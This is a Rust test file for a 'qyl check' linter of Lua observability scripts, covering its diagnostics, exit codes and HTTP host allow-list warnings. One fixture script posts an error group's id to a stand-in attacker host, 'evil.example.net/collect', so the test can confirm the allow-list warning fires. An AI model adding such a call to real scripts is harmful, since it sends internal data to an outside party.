//! `qyl check` as a user runs it: the real binary on a directory of good
//! and bad scripts, its output lines and its exit code.

use std::path::Path;
use std::process::{Command, Output};

fn qyl_check(dir: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_qyl"))
        .arg("check")
        .arg(dir)
        .output()
        .expect("run qyl check")
}

fn lines(out: &Output) -> Vec<String> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

const GOOD: &str = r#"return qyl.fn {
  name = "slow-spans",
  trigger = { on = "span", where = { duration_ms = { gt = 1000 } } },
  handler = function(span, runtime) return span.name end,
}
"#;

#[test]
fn good_scripts_pass_with_info_only() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("slow.lua"), GOOD).expect("write");
    // Editor droppings must be ignored, even when they are not valid Lua.
    for junk in [
        ".slow.lua.swp",
        "slow.lua~",
        ".#slow.lua",
        "4913",
        "notes.txt",
    ] {
        std::fs::write(dir.path().join(junk), "this is not lua (").expect("write");
    }
    let out = qyl_check(dir.path());
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let path = dir.path().join("slow.lua");
    assert_eq!(
        lines(&out),
        vec![format!(
            "{}:1:8: info[QYL2004]: function 'slow-spans' registered: triggers on span where duration_ms > 1000",
            path.display()
        )]
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("1 function(s) in 1 file(s)"), "{stderr}");

    let quiet = Command::new(env!("CARGO_BIN_EXE_qyl"))
        .args(["check", "--quiet"])
        .arg(dir.path())
        .output()
        .expect("run");
    assert_eq!(quiet.status.code(), Some(0));
    assert!(lines(&quiet).is_empty(), "{quiet:?}");
}

#[test]
fn errors_and_warnings_are_reported_compiler_style() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("a_good.lua"), GOOD).expect("write");
    std::fs::write(dir.path().join("b_dup.lua"), GOOD).expect("write");
    std::fs::write(
        dir.path().join("c_syntax.lua"),
        "return qyl.fn {\n  name = 'x'\n  trigger = {},\n}\n",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("d_io.lua"),
        "return qyl.fn {\n  name = 'io',\n  trigger = { on = 'log', when = function(log) return runtime ~= nil end },\n  handler = function() end,\n  timeout_ms = 300000,\n}\n",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("e_error.lua"),
        "return qyl.fn { name = 'e', trigger = { on = 'error', where = { severity = 'high' } }, handler = function() end }\n",
    )
    .expect("write");
    let out = qyl_check(dir.path());
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let p = |name: &str| dir.path().join(name).display().to_string();
    let got = lines(&out);
    let expect_prefixes = [
        format!("{}:1:8: info[QYL2004]: function 'slow-spans' registered", p("a_good.lua")),
        format!("{}:1:8: error[QYL2003]: function name 'slow-spans' is not unique: already defined at {}:1", p("b_dup.lua"), p("a_good.lua")),
        format!("{}:3:1: error: Expected ',' after table constructor element", p("c_syntax.lua")),
        format!("{}:1:8: info[QYL2004]: function 'io' registered: triggers on every log (+ when)", p("d_io.lua")),
        format!("{}:3:55: warning[QYL2001]: trigger `when` of 'io' uses `runtime`", p("d_io.lua")),
        format!("{}:5:3: warning[QYL2002]: handler timeout of 'io' is 300000 ms", p("d_io.lua")),
        format!("{}:1:1: error: qyl.fn \"e\": field `trigger.where.severity`: unknown field for on = \"error\"", p("e_error.lua")),
    ];
    assert_eq!(got.len(), expect_prefixes.len(), "{got:#?}");
    for (line, prefix) in got.iter().zip(&expect_prefixes) {
        assert!(
            line.starts_with(prefix.as_str()),
            "{line}\n  does not start with\n{prefix}"
        );
    }
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("3 error(s), 2 warning(s)"), "{stderr}");
}

#[test]
fn a_missing_directory_is_an_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = qyl_check(&dir.path().join("nope"));
    assert_ne!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains("reading scripts from"));
}

#[test]
fn the_shipped_scripts_pass() {
    let scripts = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts");
    let out = qyl_check(&scripts);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let got = lines(&out);
    // Info only: no warnings or errors in what ships.
    assert!(
        got.iter().all(|l| l.contains(": info[QYL2004]: ")),
        "{got:#?}"
    );
    for name in [
        "alert-high-latency",
        "error-pattern-detector",
        "token-milestones",
        "hourly-genai-report",
        "notify-genai-errors",
        "page-on-slo-burn",
        "daily-genai-spend",
    ] {
        assert!(
            got.iter()
                .any(|l| l.contains(&format!("function '{name}' registered"))),
            "{name} missing: {got:#?}"
        );
    }
    assert!(
        got.iter()
            .any(|l| l.contains("triggers on schedule every 1h")),
        "{got:#?}"
    );
    assert!(
        got.iter()
            .any(|l| l
                .contains("'page-on-slo-burn' registered: triggers on slo level in [page, ok]")),
        "{got:#?}"
    );
}

const POSTS: &str = r#"local HOOK = "https://hooks.example.com/services/T/B/x"
return qyl.fn {
  name = "poster",
  trigger = { on = "error", where = { change = "new" } },
  handler = function(group, runtime)
    runtime.http.post(HOOK, qyl.slack.message(qyl.alert.from_error(group)))
    runtime.http.post("https://evil.example.net/collect", { id = group.group_id })
  end,
}
"#;

#[test]
fn literal_urls_are_checked_against_http_allow() {
    let dir = tempfile::tempdir().expect("tempdir");
    let scripts = dir.path().join("scripts");
    std::fs::create_dir(&scripts).expect("mkdir");
    std::fs::write(scripts.join("poster.lua"), POSTS).expect("write");
    let path = scripts.join("poster.lua");

    // The default configuration allows nothing: both calls would fail.
    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
        .args(["check", "--quiet"])
        .arg(&scripts)
        .current_dir(dir.path())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0), "warnings only: {out:?}");
    assert_eq!(
        lines(&out),
        vec![
            format!("{}:1:14: warning[QYL2005]: runtime.http call to https://hooks.example.com: host hooks.example.com is not in [functions] http_allow of qyl.toml (nothing is allowed by default); the call will fail", path.display()),
            format!("{}:7:23: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (nothing is allowed by default); the call will fail", path.display()),
        ]
    );

    // The configuration qyl serves with: only the disallowed host is left.
    let config = dir.path().join("qyl.toml");
    std::fs::write(
        &config,
        "[functions]\nhttp_allow = [\"hooks.example.com\"]\n",
    )
    .expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
        .args(["check", "--quiet", "--config"])
        .arg(&config)
        .arg(&scripts)
        .output()
        .expect("run");
    let got = lines(&out);
    assert_eq!(got.len(), 1, "{got:#?}");
    assert!(got[0].contains("7:23: warning[QYL2005]: runtime.http call to https://evil.example.net: host evil.example.net is not in [functions] http_allow of qyl.toml (allowed: hooks.example.com)"), "{got:#?}");
    // ./qyl.toml is the default configuration file, as for `qyl serve`.
    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
        .args(["check", "--quiet", "scripts"])
        .current_dir(dir.path())
        .output()
        .expect("run");
    assert_eq!(lines(&out).len(), 1, "{out:?}");
}

#[test]
fn without_a_directory_it_checks_functions_dir_and_reports_unreadable_files() {
    let dir = tempfile::tempdir().expect("tempdir");
    let scripts = dir.path().join("scripts");
    std::fs::create_dir(&scripts).expect("mkdir");
    std::fs::write(scripts.join("ok.lua"), GOOD).expect("write");
    std::fs::write(scripts.join("latin1.lua"), b"-- caf\xe9\nreturn nil\n").expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_qyl"))
        .arg("check")
        .current_dir(dir.path())
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let got = lines(&out);
    assert_eq!(got.len(), 2, "{got:#?}");
    assert!(
        got[0].starts_with("scripts/latin1.lua:1:1: error: cannot read the script: "),
        "{got:#?}"
    );
    assert!(
        got[1].starts_with("scripts/ok.lua:1:8: info[QYL2004]: "),
        "{got:#?}"
    );
}
